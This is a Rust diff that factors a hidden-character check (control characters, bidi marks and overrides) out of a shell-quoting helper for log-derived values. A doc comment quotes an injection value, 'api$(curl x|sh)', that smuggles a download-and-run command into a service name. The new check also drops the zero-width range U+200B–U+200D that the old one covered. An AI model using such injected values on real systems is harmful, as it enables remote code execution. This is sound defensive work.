@@ -26,6 +26,13 @@ pub fn code_name(s: &str) -> String {
     }
 }
 
+/// Control characters and bidi marks and overrides: text from logs or file names
+/// that can move a terminal's cursor or show other text than it holds.
+pub fn is_hidden(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
 /// `s` as one shell word: as it is when it holds only characters no shell treats
 /// specially (all that Cloud Run names and regions use), else single-quoted. Values in
 /// suggested commands come from the logs, so a service named `api$(curl x|sh)` must
@@ -36,13 +43,9 @@ pub fn shell_word(s: &str) -> String {
     if !s.is_empty() && s.chars().all(plain) {
         return s.to_string();
     }
-    let hidden = |c: char| {
-        c.is_control()
-            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
-    };
     let mut out = String::with_capacity(s.len() + 2);
     out.push('\'');
-    for c in s.chars().filter(|&c| !hidden(c)) {
+    for c in s.chars().filter(|&c| !is_hidden(c)) {
         if c == '\'' {
             out.push_str("'\\''");
         } else {
